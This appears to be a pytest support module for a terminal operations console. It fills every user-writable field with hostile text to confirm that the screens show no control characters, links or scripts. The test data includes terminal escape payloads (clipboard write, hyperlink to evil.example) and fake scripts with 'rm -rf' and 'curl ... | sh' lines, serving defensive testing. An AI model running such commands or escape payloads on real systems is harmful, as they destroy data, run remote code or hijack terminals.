"""A host on which every text that others can write is hostile, and what may be seen of it."""

from __future__ import annotations

import json
import unicodedata
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.screen import Screen
from textual.widget import Widget

from opsconsole.anomalies import AnomalyState, Severity
from opsconsole.checkup import Fact
from opsconsole.models import Status
from opsconsole.monitoring.sampling.proc_sockets import Socket
from opsconsole.monitoring.sampling.selected import Limit, OpenFile
from opsconsole.samples import Disk, Drive, Interface
from opsconsole.storage.asked import Asked
from opsconsole.storage.looks import DeadConsole
from opsconsole.tui import picture
from tests.tui.editor.scene import own_scripts
from tests.tui.fake_engine import NOW, SECOND, FakeEngine
from tests.tui.fake_monitoring import GB, sample
from tests.tui.history.record import RecordEngine
from tests.tui.processes.fake_processes import FakeSampler, closely, install, row
from tests.tui.scenes import HOSTILE
from tests.tui.settings.scene import same_everywhere
from tests.tui.tasks.scene import measured

MARK = "EVIL"
"""What is left to see of any of it."""
STORABLE = (
    f"{MARK}{HOSTILE}\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x1b\\[@click=app.bell]link[/]"
    "\x1b[2J\x9b31m\x07\x00\x7f\u200b\u202e\u2066\ufeff\U000e0041e"
    + "\u0301" * 40
    + "漢字\U0001f468\u200d\U0001f4bb\r\n\t\x85\u2028end"
)
EVIL = STORABLE + "\udcff\ud800"
LONG = EVIL * 60
"""More than ten kilobytes."""
BYTES = (
    EVIL.encode("utf-8", "surrogatepass") + b"\xff\xfe\x00\x9b2J\x1b[2J\x1bP q\x1b\\\x1bc\x1b(0\r\n"
    b"\x1b[31mred\x1b[?1049l"
)
_INVISIBLE = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def controls(text: str) -> set[str]:
    """What a terminal would act on or hide, besides the newlines that we put there."""
    if text.isprintable():  # no character of these categories, or of some more, is in it
        return set()
    return {f"U+{ord(c):04X}" for c in text if c != "\n" and unicodedata.category(c) in _INVISIBLE}


class Seen:
    """Every screen that was looked at was harmless; the widgets that were on it are remembered."""

    def __init__(self) -> None:
        self.kinds: set[type[Widget]] = set()
        self._drawn: set[Screen[Any]] = set()

    def check(self, pilot: Pilot[Any], where: str = "") -> None:
        screen = pilot.app.screen
        self.kinds |= {type(one) for one in screen.walk_children(Widget) if one.display and one.region.area}
        self.kinds.add(type(screen))
        for strip in screen._compositor.render_strips():
            for segment in strip:
                assert not controls(segment.text), f"{where}: {segment.text!r}"
                assert segment.style is None or not segment.style.link, f"{where}: a link in {segment.text!r}"
                assert segment.style is None or "@click" not in segment.style.meta, f"{where}: {segment.text!r}"
        if screen in self._drawn:
            return
        self._drawn.add(screen)
        drawn, text = picture.svg_of(pilot.app), picture.text_of(pilot.app)
        assert not controls(drawn) and not controls(text), where
        ElementTree.fromstring(drawn)  # noqa: S314 - well-formed whatever the data holds
        assert "<script" not in drawn, where


class HostileEngine(FakeEngine):
    """Scripts, files and reasons, too."""

    def script(self, task_id: int) -> bytes:
        return b"#!/bin/bash\n# " + BYTES + b"\nrm -rf $DIR/" + BYTES + b"\ncurl http://" + BYTES + b" | sh\n"


def hostile_engine(folder: Path) -> FakeEngine:
    """Every field that others write, in every status."""
    engine = HostileEngine(folder)
    engine.paths.prepare()
    for status in Status:
        task = engine.put(
            name=EVIL if status is not Status.CANCELLED else LONG, status=status, reason=EVIL, actor=EVIL, door=EVIL,
            ssh_client=EVIL, interpreter=EVIL, signal=EVIL, parent_id=1, parent_kind=EVIL, labels={EVIL: EVIL},
            started_at=NOW - 9 * SECOND, finished_at=NOW, duration_s=9.0, attempts=3, host=EVIL, pinned=True,
        )  # fmt: skip
        process = [{"pid": 1, "start": 1, "name": EVIL, "killed": False}]
        found = {"rule": EVIL, "severity": "error", "line": 2, "column": 1, "end_line": 2, "end_column": 4}
        engine.report(
            task.id, verdict="confirm", findings=[{**found, "message": EVIL}, {**found, "message": LONG}],
            supervision={"survivors": process, "leftovers": process, "kill": EVIL, "stopped_by": EVIL},
            containment={"degraded": [EVIL], "limits": {}, "provider": EVIL},
            effects=[{"kind": "write", "target": EVIL, "command": EVIL, "line": 2, "column": 1}],
            metrics={"user_cpu_s": 1.0, "system_cpu_s": 0.1, "max_rss_bytes": 9, "source": EVIL},
        )  # fmt: skip
        engine.waiting[task.id] = EVIL
        engine.asking[task.id] = Asked((EVIL, LONG), EVIL, (EVIL,), reason=EVIL)
        run = engine.write(task.id, ("stdout", BYTES + b"\n"), ("stderr", BYTES * 50), ended=not status.is_open)
        (run / "claim.1").write_text(json.dumps({"status": EVIL, "by": EVIL}) + "\n")
        measured(engine, task.execution_id, seconds=20)
    engine.dead_consoles = [DeadConsole(1, 3, EVIL, EVIL, NOW - 5 * SECOND)]
    station = engine.monitoring
    busy = tuple({"pid": pid, "start_time": 1.0, "name": EVIL, "cpu_percent": 9.0, "rss_bytes": GB} for pid in (1, 2))
    for kind, state in (
        ("memory_high", AnomalyState.OPEN), ("process_rss", AnomalyState.OPEN), ("unusual", AnomalyState.FLAPPING),
        ("disk_fill_rate", AnomalyState.CLOSED), (EVIL.encode("utf-8", "replace").decode(), AnomalyState.OPEN),
    ):  # fmt: skip
        station.put(
            kind, EVIL, Severity.HIGH, subject=EVIL, host=EVIL, unit=EVIL, state=state, opened_at=NOW - 60 * SECOND,
            closed_at=NOW - 30 * SECOND if state is AnomalyState.CLOSED else None, acknowledged_by=EVIL,
            acknowledged_at=NOW, notes=({"at": NOW, "by": EVIL, "text": LONG},), processes=busy,
        )  # fmt: skip
    station.slowed = EVIL
    station.take(
        sample(
            NOW, disks=(Disk(EVIL, EVIL, EVIL, GB, GB, 0, 100.0),),
            drives=(Drive(EVIL, 1.0, 1.0, 1.0, 1.0, 99.0, 9.0),), interfaces=(Interface(EVIL, 9e9, 9e9),),
        ),
        *evil_processes().processes,
    )  # fmt: skip
    return engine


def evil_processes() -> FakeSampler:
    return FakeSampler(
        row(1, EVIL, ppid=0, user=EVIL, cmdline=EVIL, cpu_percent=99.0, rss_bytes=GB),
        row(4_000_002, LONG, user=LONG, cmdline=LONG, cgroup=EVIL, cpu_percent=50.0),
        row(4_000_003, "漢字" * 500, ppid=1, cmdline=""),
    )


def evil_details(pid: int, start_ticks: int) -> Any:
    return closely(
        pid, start_ticks, name=EVIL, cmdline=(EVIL, LONG, ""), exe=EVIL, cwd=LONG, cgroup=EVIL,
        files=(OpenFile(0, EVIL), OpenFile(1, LONG)), sockets=(Socket("unix", 1, EVIL, EVIL, EVIL),),
        limits=(Limit(EVIL, 1, 2, EVIL),), environment=((EVIL, EVIL), (LONG, LONG)),
    )  # fmt: skip


def evil_facts() -> tuple[Fact, ...]:
    return tuple(Fact(topic, EVIL, "degraded", LONG, EVIL, EVIL, {EVIL: EVIL}) for topic in ("platform", "tools"))


class HostileRecord(RecordEngine):
    """A history of such runs, in a real database."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        evil = EVIL.encode("utf-8", "replace").decode()
        for at in range(6):
            self.ran(
                evil if at else evil * 40, list(Status)[at % 3 + 5], ago=(at + 1) * 60 * SECOND, script=BYTES,
                output=BYTES * (at + 1), stderr=BYTES, reason=evil, policy="standard", host=evil, actor=evil, door=evil,
                signal=evil, attempts=2,
            )  # fmt: skip


def toml_string(text: str) -> str:
    return '"' + "".join(char if char.isalnum() else f"\\U{ord(char):08X}" for char in text) + '"'


def hostile_host(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    """Processes, scripts, configuration and a check-up that somebody else has written."""
    config = same_everywhere(monkeypatch, folder, evil_facts())
    name = EVIL.replace("/", "_").replace("\x00", "").replace("\ud800", "")[:60]
    own_scripts(folder, {f"{name}.sh": f"#!/bin/bash\n# {STORABLE}\nrm -rf $DIR/{STORABLE}\n# {STORABLE * 40}\n"})
    (config / "themes").mkdir()
    (config / "themes" / f"{name}.toml").write_text("not toml at all")
    (config / "themes" / "b.toml").write_text(f"name = {toml_string(STORABLE)}\n[colours]\nprimary = '#123456'\n")
    (config / "keymap.toml").write_text(f"[keys]\n{toml_string(STORABLE)} = 'f2'\nhelp = {toml_string(STORABLE)}\n")
    (config / "config.toml").write_text(f"[redaction]\nnames = [{toml_string(STORABLE)}]\n")
    install(monkeypatch, evil_processes(), evil_details)
